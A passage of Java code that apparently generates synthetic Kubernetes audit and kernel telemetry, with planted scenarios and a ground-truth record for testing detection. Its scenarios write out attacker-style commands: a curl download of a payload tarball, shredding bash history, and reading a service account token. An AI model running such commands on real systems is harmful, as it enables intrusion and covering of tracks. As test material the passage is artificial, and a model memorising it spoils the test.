        sb.append(",\"flags\":\"").append(flags).append("\",\"start_time\":\"");
        truthClock.append(sb, p.startNs, 9);
        sb.append("\",\"auid\":").append(auid);
    }

    private static void finish(Proc p, String json) {
        p.json = json;
        p.pair = p.parent == null ? "\"process\":" + json : "\"process\":" + json + ",\"parent\":" + p.parent.json;
    }

    private Conn connect(Pod from, String daddr, int dport) {
        return new Conn(from.ip, 32768 + rnd.nextInt(28000), daddr, dport, nextCookie());
    }

    private long nextCookie() {
        return cookie += 1 + rnd.nextInt(64);
    }

    // ------------------------------------------------------------------------------------- background activity

    private void background(long t) {
        int k = rnd.nextInt(100);
        if (k < 75) {
            Workload w = clients.get(rnd.nextInt(clients.size()));
            if (w.active.isEmpty()) return;
            Pod p = w.active.get(rnd.nextInt(w.active.size()));
            Target tg = w.targets[rnd.nextInt(w.targets.length)];
            connection(t, p, p.entry, tg, 3 * MS + rnd.nextInt(1500) * MS);
        } else if (k < 92) {
            Workload w = probed.get(rnd.nextInt(probed.size()));
            if (w.active.isEmpty()) return;
            Pod p = w.active.get(rnd.nextInt(w.active.size()));
            Proc probe = containerProc(p, p.shim, t, w.probeBinary, w.probeArgs, w.cwd, 0, false, false);
            exec(t, probe);
            exit(t + 4 * MS + rnd.nextInt(60) * MS, probe, 0, null);
        } else {
            Workload w = scripted.get(rnd.nextInt(scripted.size()));
            if (w.active.isEmpty()) return;
            Pod p = w.active.get(rnd.nextInt(w.active.size()));
            Proc sh = containerProc(p, p.entry, t, "/bin/sh", w.scriptArgs, w.cwd, w.uid, true, false);
            exec(t, sh);
            long t2 = t + 1 * MS + rnd.nextInt(3000) * 1000L;
            Proc child = containerProc(p, sh, t2, w.scriptChildBinary, w.scriptChildArgs, w.cwd, w.uid, true, false);
            exec(t2, child);
            long end = connection(t2 + 500_000, p, child, w.scriptTarget, 2 * MS + rnd.nextInt(20) * MS);
            exit(end + 300_000, child, 0, null);
            exit(end + 900_000, sh, 0, null);
        }
    }

    /** tcp_connect from proc, inet_csk_accept at the in-cluster backend if any, then tcp_close; returns close time. */
    private long connection(long t, Pod from, Proc proc, Target tg, long duration) {
        String daddr;
        Pod backend = null;
        switch (tg.kind()) {
            case SERVICE -> {
                daddr = tg.service();
                if (tg.backend() != null && !tg.backend().active.isEmpty())
                    backend = tg.backend().active.get(rnd.nextInt(tg.backend().active.size()));
            }
            case EXTERNAL -> daddr = tg.ips()[rnd.nextInt(tg.ips().length)];
            case NODE -> {
                Node n = nodes[rnd.nextInt(nodes.length)];
                daddr = n.ip;
                for (Pod p : tg.backend().active) if (p.node == n) backend = p;
            }
            default -> {
                if (tg.backend().active.isEmpty()) return t;
                backend = tg.backend().active.get(rnd.nextInt(tg.backend().active.size()));
                daddr = backend.ip;
            }
        }
        Conn c = connect(from, daddr, tg.port());
        kprobe(t, CONNECT, proc, c);
        if (backend != null) {
            Conn a = new Conn(backend.ip, tg.port(), from.ip, c.sport, nextCookie());
            kprobe(t + 150_000 + rnd.nextInt(400_000), ACCEPT, backend.entry, a);
        }
        kprobe(t + duration, CLOSE, proc, c);
        return t + duration;
    }

    // ------------------------------------------------------------------------------------------------ timeline

    private void scheduleTimeline() {
        rollout(billingApi, frac(0.15));
        at(frac(0.30), () -> cronJob(frac(0.30)));
        rollout(frontendWeb, frac(0.60));
        if (has(Story.SEED)) at(frac(0.40), () -> seed(frac(0.40)));
        if (has(Story.SECOND_USER)) at(frac(0.40) + s(60), () -> secondUser(frac(0.40) + s(60)));
        if (has(Story.DENIED_EXEC)) at(frac(0.50), () -> deniedExec(frac(0.50)));
        if (has(Story.TCPDUMP)) {
            at(frac(0.62), () -> hostTcpdump(frac(0.62)));
            at(frac(0.66), () -> netdebugTcpdump(frac(0.66)));
        }
        if (has(Story.NODE_SHELL)) at(frac(0.72), () -> nodeShell(frac(0.72)));
        if (has(Story.UNKNOWN_IP)) at(frac(0.80), () -> unknownIp(frac(0.80)));
    }

    private boolean has(Story s) {
        return cfg.stories().contains(s);
    }

    private static final String RS_CONTROLLER_UA = "kube-controller-manager" + K8S_UA_SUFFIX
            + "/system:serviceaccount:kube-system:replicaset-controller";

    /** A Deployment rollout: an image bump by Argo CD, then each replica replaced one by one. */
    private void rollout(Workload w, long t0) {
        at(t0, () -> {
            request(t0, 9 * MS, "patch", "/apis/apps/v1/namespaces/" + w.ns + "/deployments/" + w.name
                            + "?fieldManager=argocd-controller", saUser(3, "argocd", "argocd-application-controller"),
                    "10.244.0.37", "argocd-application-controller/v2.12.3 (linux/amd64) kubernetes/a51b3b7",
                    objRef("deployments", w.ns, w.name, "apps", null), 200,
                    allowBy("RBAC: allowed by ClusterRoleBinding \"argocd-application-controller\" of ClusterRole"
                            + " \"argocd-application-controller\" to ServiceAccount"
                            + " \"argocd-application-controller/argocd\""));
            w.rsHash = name(10);
        });
        int n = w.replicas;
        for (int i = 0; i < n; i++) {
            long ti = t0 + s(5) + i * s(20);
            at(ti, () -> {
                Node node = nodes[rnd.nextInt(nodes.length)];
                Pod p = newPod(w, node, ti + s(1.5), 0, false);
                podCreatedAudit(ti, p, saUser(4, "kube-system", "replicaset-controller"), RS_CONTROLLER_UA);
                at(ti + s(1.5), () -> {
                    exec(ti + s(1.5), p.entry);
                    Pod old = w.active.remove(0);
                    w.active.add(p);
                    long te = ti + s(1.5) + Math.max(5 * SEC, s(30));
                    request(ti + s(1.5) + 20 * MS, 8 * MS, "delete", "/api/v1/namespaces/" + w.ns + "/pods/"
                                    + old.name, saUser(4, "kube-system", "replicaset-controller"),
                            CONTROL_PLANE_IP, RS_CONTROLLER_UA, objRef("pods", w.ns, old.name, null, null), 200, ALLOW);
                    exit(te, old.entry, 0, "SIGTERM");
                });
            });
        }
    }

    private void podCreatedAudit(long t, Pod p, String user, String ua) {
        Workload w = p.w;
        request(t, 11 * MS, "create", "/api/v1/namespaces/" + w.ns + "/pods", user, CONTROL_PLANE_IP, ua,
                objRef("pods", w.ns, p.name, null, null), 201, ALLOW);
        request(t + 40 * MS, 6 * MS, "create", "/api/v1/namespaces/" + w.ns + "/pods/" + p.name + "/binding",
                userJson("system:kube-scheduler", null, "system:authenticated"), CONTROL_PLANE_IP,
                "kube-scheduler" + K8S_UA_SUFFIX + "/scheduler", objRef("pods", w.ns, p.name, null, "binding"), 201,
                allowBy("RBAC: allowed by ClusterRoleBinding \"system:kube-scheduler\" of ClusterRole"
                        + " \"system:kube-scheduler\" to User \"system:kube-scheduler\""));
        request(t + s(2), 7 * MS, "patch", "/api/v1/namespaces/" + w.ns + "/pods/" + p.name + "/status",
                nodeUser(p.node), p.node.ip, "kubelet" + K8S_UA_SUFFIX, objRef("pods", w.ns, p.name, null, "status"),
                200, ALLOW);
    }

    private void cronJob(long t) {
        Workload w = nightlyReport;
        String job = w.name + "-" + (t / SEC / 60);
        request(t, 10 * MS, "create", "/apis/batch/v1/namespaces/" + w.ns + "/jobs",
                saUser(5, "kube-system", "cronjob-controller"), CONTROL_PLANE_IP,
                "kube-controller-manager" + K8S_UA_SUFFIX + "/system:serviceaccount:kube-system:cronjob-controller",
                objRef("jobs", w.ns, job, "batch", null), 201, ALLOW);
        Node n = nodes[rnd.nextInt(nodes.length)];
        Pod p = newPod(w, n, t + s(3), 0, false, job);
        podCreatedAudit(t + 30 * MS, p, saUser(6, "kube-system", "job-controller"),
                "kube-controller-manager" + K8S_UA_SUFFIX + "/system:serviceaccount:kube-system:job-controller");
        long t1 = t + s(3);
        exec(t1, p.entry);
        connection(t1 + s(2), p, p.entry, w.targets[0], s(8));
        Proc sh = containerProc(p, p.entry, t1 + s(20), "/bin/sh", "-c \"gzip -9 /tmp/report.csv\"", w.cwd, w.uid,
                true, false);
        exec(t1 + s(20), sh);
        Proc gz = containerProc(p, sh, t1 + s(20) + 2 * MS, "/bin/gzip", "-9 /tmp/report.csv", w.cwd, w.uid, true,
                false);
        exec(t1 + s(20) + 2 * MS, gz);
        exit(t1 + s(21), gz, 0, null);
        exit(t1 + s(21) + MS, sh, 0, null);
        connection(t1 + s(22), p, p.entry, w.targets[1], s(5));
        exit(t1 + s(30), p.entry, 0, null);
        jobPods.add(new SnapshotWriter.JobPod(p, job, t1 + s(30)));
    }

    // ---------------------------------------------------------------------------------------------------- stories

    private static final String KUBECTL_130 = "kubectl/v1.30.2 (linux/amd64) kubernetes/3968350";

    /** Schedules the audit stages of an allowed exec: RequestReceived, ResponseStarted (101), ResponseComplete. */
    private AuditReq execRequest(long t, long end, Pod pod, String query, String user, String ip, String ua,
                                 String reason) {
        AuditReq r = new AuditReq(uuid(), "get", "/api/v1/namespaces/" + pod.w.ns + "/pods/" + pod.name + "/exec?"
                + query, user, ip, ua, objRef("pods", pod.w.ns, pod.name, null, "exec"));
        r.received = t;
        r.code = 101;
        r.annotations = allowBy(reason);
        stage(t, r, "RequestReceived");
        stage(t + 30 * MS + rnd.nextInt(20) * MS, r, "ResponseStarted");
        stage(end, r, "ResponseComplete");
        return r;
    }

    private void seed(long t) {
        Pod pod = billingApi.active.get(0);
        String query = "command=bash&container=billing-api&stdin=true&stdout=true&tty=true";
        long t0 = t + 60 * MS;
        long end = t0 + s(200);
        AuditReq r = execRequest(t, end + 12 * MS, pod, query,
                userJson("john.doe", null, "system:authenticated", "sre"), "203.0.113.45", KUBECTL_130,
                "RBAC: allowed by ClusterRoleBinding \"sre-exec\" of ClusterRole \"pod-exec\" to Group \"sre\"");
        TruthBuilder.SessionB sess = truth.session(Story.SEED, r, "john.doe", List.of("system:authenticated", "sre"),
                "203.0.113.45", KUBECTL_130, pod, List.of("bash"), true, t, end + 12 * MS);
        Proc bash = sproc(sess, pod, pod.shim, t0, "/bin/bash", "", false);
        long tc = t0 + s(25);
        Proc curl = sproc(sess, pod, bash, tc, "/usr/bin/curl",
                "-sSL -o /tmp/payload.tgz http://" + SEED_DOWNLOAD_IP + "/payload.tgz", false);
        Conn c = connect(pod, SEED_DOWNLOAD_IP, 80);
        kprobe(tc + 3 * MS, CONNECT, curl, c);
        sess.connection(curl, c, tc + 3 * MS);
        kprobe(tc + 3 * MS + s(1.2), CLOSE, curl, c);
        exit(tc + 3 * MS + s(1.2) + MS, curl, 0, null);
        long tt = t0 + s(60);
        Proc tar = sproc(sess, pod, bash, tt, "/bin/tar", "-xzf /tmp/payload.tgz -C /tmp", false);
        Proc gzip = sproc(sess, pod, tar, tt + 2 * MS, "/bin/gzip", "-d", false);
        exit(tt + s(0.4), gzip, 0, null);
        exit(tt + s(0.4) + MS, tar, 0, null);
        long ts = t0 + s(120);
        Proc shred = sproc(sess, pod, bash, ts, "/usr/bin/shred", "-u /root/.bash_history", false);
        exit(ts + 40 * MS, shred, 0, null);
        exit(end, bash, 0, null);
    }

    /** A process caused by a story session, recorded in the truth and emitted as process_exec. */
    private Proc sproc(TruthBuilder.SessionB sess, Pod pod, Proc parent, long t, String binary, String args,
                       boolean initTree) {
        Proc p = containerProc(pod, parent, t, binary, args, pod.w.cwd, 0, initTree, false);
        exec(t, p);
        sess.process(p, t);
        return p;
    }

    private void secondUser(long t) {
        Pod pod = billingApi.active.get(0);
        String query = "command=sh&command=-c&command=cat%20%2Fetc%2Fhostname&container=billing-api&stderr=true"
                + "&stdout=true";
        String ua = "kubectl/v1.29.3 (darwin/arm64) kubernetes/6813625";
        long t0 = t + 45 * MS;
        long end = t0 + 30 * MS;
        AuditReq r = execRequest(t, end + 5 * MS, pod, query,
                userJson("jane.roe", null, "system:authenticated", "developers"), "203.0.113.77", ua,
                "RBAC: allowed by RoleBinding \"developers-exec/billing\" of ClusterRole \"pod-exec\" to Group"
                        + " \"developers\"");
        TruthBuilder.SessionB sess = truth.session(Story.SECOND_USER, r, "jane.roe",
                List.of("system:authenticated", "developers"), "203.0.113.77", ua, pod,
                List.of("sh", "-c", "cat /etc/hostname"), false, t, end + 5 * MS);
        Proc sh = sproc(sess, pod, pod.shim, t0, "/bin/sh", "-c \"cat /etc/hostname\"", false);
        Proc cat = sproc(sess, pod, sh, t0 + 2 * MS, "/bin/cat", "/etc/hostname", false);
        exit(t0 + 6 * MS, cat, 0, null);
        exit(end, sh, 0, null);
    }

    private void deniedExec(long t) {
        Pod pod = postgres.active.get(0);
        String ua = "kubectl/v1.30.1 (linux/amd64) kubernetes/6911225";
        AuditReq r = new AuditReq(uuid(), "get", "/api/v1/namespaces/" + pod.w.ns + "/pods/" + pod.name
                + "/exec?command=bash&container=postgres&stdin=true&stdout=true&tty=true",
                userJson("mallory", null, "system:authenticated", "contractors"), "198.51.100.66", ua,
                objRef("pods", pod.w.ns, pod.name, null, "exec"));
        r.received = t;
        r.code = 403;
        r.failure = ",\"status\":\"Failure\",\"message\":" + Lines.quote("pods \"" + pod.name + "\" is forbidden: User"
                + " \"mallory\" cannot get resource \"pods/exec\" in API group \"\" in the namespace \"" + pod.w.ns
                + "\"") + ",\"reason\":\"Forbidden\",\"details\":{\"name\":\"" + pod.name
                + "\",\"kind\":\"pods\"}";
        r.annotations = "{\"authorization.k8s.io/decision\":\"forbid\",\"authorization.k8s.io/reason\":\"\"}";
        stage(t, r, "RequestReceived");
        stage(t + 3 * MS, r, "ResponseComplete");
        truth.session(Story.DENIED_EXEC, r, "mallory", List.of("system:authenticated", "contractors"),
                "198.51.100.66", ua, pod, List.of("bash"), true, t, t + 3 * MS);
    }

    private void hostTcpdump(long t) {
        Node n = nodes[nodes.length - 1];
        Conn ssh = new Conn(n.ip, 22, "10.0.0.5", 40000 + rnd.nextInt(20000), nextCookie());
        kprobe(t, ACCEPT, n.sshd, ssh);
        Proc sshd = hostSpawn(n, n.sshd, t + 2 * MS, "/usr/sbin/sshd", "-D -R", 4294967295L, "/");
        exec(t + 2 * MS, sshd);
        Proc bash = hostSpawn(n, sshd, t + s(2), "/bin/bash", "", 0, "/root");
        exec(t + s(2), bash);
        long td = t + s(15);
        Proc dump = hostSpawn(n, bash, td, "/usr/sbin/tcpdump", "-i eth0 -w /tmp/cap.pcap", 0, "/root");
        exec(td, dump);
        truth.tcpdump(n, null, dump, td);
        exit(t + s(105), dump, 0, null);
        exit(t + s(130), bash, 0, null);
        exit(t + s(130) + 3 * MS, sshd, 0, null);
    }

    private void netdebugTcpdump(long t) {
        Pod pod = netdebug.active.get(0);
        String query = "command=tcpdump&command=-i&command=any&command=-nn&command=-c&command=500&command=port"
                + "&command=53&container=netdebug&stderr=true&stdout=true";
        String ua = "kubectl/v1.31.0 (linux/amd64) kubernetes/9edcffc";
        long t0 = t + 50 * MS;
        long end = t0 + s(40);
        AuditReq r = execRequest(t, end + 8 * MS, pod, query,
                userJson("alice.admin", null, "system:authenticated", "platform-admins"), "203.0.113.9", ua,
                "RBAC: allowed by ClusterRoleBinding \"platform-admins\" of ClusterRole \"cluster-admin\" to Group"
                        + " \"platform-admins\"");
        TruthBuilder.SessionB sess = truth.session(Story.TCPDUMP, r, "alice.admin",
                List.of("system:authenticated", "platform-admins"), "203.0.113.9", ua, pod,
                List.of("tcpdump", "-i", "any", "-nn", "-c", "500", "port", "53"), false, t, end + 8 * MS);
        Proc dump = sproc(sess, pod, pod.shim, t0, "/usr/bin/tcpdump", "-i any -nn -c 500 port 53", false);
        truth.tcpdump(pod.node, pod, dump, t0);
        exit(end, dump, 0, null);
    }

    private void nodeShell(long t) {
        Pod pod = frontendWeb.active.get(0);
        Node n = pod.node;
        String execName = hex(64);
        Proc runc = hostSpawn(n, pod.shim, t, "/usr/bin/runc", "--root /run/containerd/runc/k8s.io --log"
                + " /run/containerd/io.containerd.runtime.v2.task/k8s.io/" + pod.containerId + "/log.json"
                + " --log-format json exec --process /tmp/runc-process" + (100_000_000 + rnd.nextInt(899_999_999))
                + " --console-socket /tmp/pty" + (100_000_000 + rnd.nextInt(899_999_999)) + "/pty.sock --detach"
                + " --pid-file /run/containerd/io.containerd.runtime.v2.task/k8s.io/" + pod.containerId + "/"
                + execName + ".pid " + pod.containerId, 4294967295L, "/run/containerd/io.containerd.runtime.v2.task/k8s.io/"
                + pod.containerId);
        exec(t, runc);
        long t0 = t + 8 * MS;
        Proc bash = containerProc(pod, runc, t0, "/bin/bash", "", "/", 0, false, false);
        exec(t0, bash);
        exit(t0 + 4 * MS, runc, 0, null);
        Proc id = containerProc(pod, bash, t0 + s(6), "/usr/bin/id", "", "/", 0, false, false);
        exec(t0 + s(6), id);
        exit(t0 + s(6) + 2 * MS, id, 0, null);
        Proc cat = containerProc(pod, bash, t0 + s(20), "/bin/cat",
                "/var/run/secrets/kubernetes.io/serviceaccount/token", "/", 0, false, false);
        exec(t0 + s(20), cat);
        exit(t0 + s(20) + 2 * MS, cat, 0, null);
        exit(t0 + s(90), bash, 0, null);
        truth.nodeShell(pod, List.of(runc, bash, id, cat));
    }

    private void unknownIp(long t) {
        Pod pod = invoiceWorker.active.get(0);
        Conn c = connect(pod, UNKNOWN_IP, UNKNOWN_PORT);
        kprobe(t, CONNECT, pod.entry, c);
        kprobe(t + s(120), CLOSE, pod.entry, c);
        Conn c2 = connect(pod, UNKNOWN_IP, UNKNOWN_PORT);
        kprobe(t + s(150), CONNECT, pod.entry, c2);
        kprobe(t + s(170), CLOSE, pod.entry, c2);
    }

    // ------------------------------------------------------------------------------------------------- random ids

    private String hex(int n) {
        char[] c = new char[n];
        for (int i = 0; i < n; i++) c[i] = HEX[rnd.nextInt(16)];
        return new String(c);
    }

    private String name(int n) {
        char[] c = new char[n];
        for (int i = 0; i < n; i++) c[i] = NAME_CHARS.charAt(rnd.nextInt(NAME_CHARS.length()));
        return new String(c);
    }

    private String uuid() {
        String h = hex(32);
        return h.substring(0, 8) + "-" + h.substring(8, 12) + "-4" + h.substring(13, 16) + "-"
                + "89ab".charAt(rnd.nextInt(4)) + h.substring(17, 20) + "-" + h.substring(20);
    }
}
